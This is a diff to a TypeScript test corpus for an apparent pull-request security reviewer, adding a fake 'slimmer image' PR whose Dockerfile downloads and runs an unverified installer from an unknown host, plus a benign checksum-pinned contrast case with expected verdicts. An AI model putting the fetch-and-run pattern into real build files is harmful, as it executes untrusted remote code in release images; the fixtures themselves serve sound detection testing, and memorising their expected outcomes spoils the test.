@@ -3372,6 +3372,45 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: 'low', action: ['approve', 'comment'], findings: ['go-run-unpinned'] },
   },
   {
+    id: 'attack-dockerfile-add-remote-script-run',
+    description:
+      'A "slimmer image" PR replaces `RUN curl … | sh` with `ADD https://get.devtool-cdn.dev/install.sh /tmp/` and `RUN sh /tmp/install.sh`: the same unverified installer from an unknown host, now in two instructions that a pipe-to-shell reader does not see, run in the release image build with its build arguments.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11014,
+        title: 'Slimmer image: drop curl from the build stage',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'Dockerfile',
+            base: lines('FROM node:22-bookworm-slim', 'WORKDIR /app', 'COPY package.json package-lock.json ./', 'RUN npm ci --omit=dev', 'COPY . .', 'CMD ["node", "server.js"]'),
+            head: lines('FROM node:22-bookworm-slim', 'WORKDIR /app', 'ADD https://get.devtool-cdn.dev/install.sh /tmp/', 'RUN sh /tmp/install.sh --quiet && rm /tmp/install.sh', 'COPY package.json package-lock.json ./', 'RUN npm ci --omit=dev', 'COPY . .', 'CMD ["node", "server.js"]'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: ['needs_discussion', 'request_changes'], findings: ['curl-pipe-shell'] },
+  },
+  {
+    id: 'benign-dockerfile-add-checksum-binary',
+    description: 'The ordinary forms: a maintainer adds tini with `ADD --checksum=sha256:… --chmod=755` from its release page and an ENTRYPOINT that runs it.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11015,
+        title: 'Run the server under tini',
+        author: 'member',
+        files: [
+          {
+            path: 'Dockerfile',
+            base: lines('FROM node:22-bookworm-slim', 'WORKDIR /app', 'COPY package.json package-lock.json ./', 'RUN npm ci --omit=dev', 'COPY . .', 'CMD ["node", "server.js"]'),
+            head: lines('FROM node:22-bookworm-slim', 'ADD --checksum=sha256:c5b0666b4cb676901f90dfcb37106783c5fe2077b04590973b885950611b30ee --chmod=755 https://github.com/krallin/tini/releases/download/v0.19.0/tini-static /tini', 'WORKDIR /app', 'COPY package.json package-lock.json ./', 'RUN npm ci --omit=dev', 'COPY . .', 'ENTRYPOINT ["/tini", "--"]', 'CMD ["node", "server.js"]'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:curl-pipe-shell', 'finding:downloaded-binary-run'] },
+  },
+  {
     id: 'attack-runner-provisioning-user-data',
     description: 'The benign look-alike: an infrastructure repository\'s maintainer adds the cloud-init script its autoscaled runners boot with, which asks for a registration token and configures an ephemeral runner (medium: a provisioning script does this in ordinary work).',
     fixture: () =>
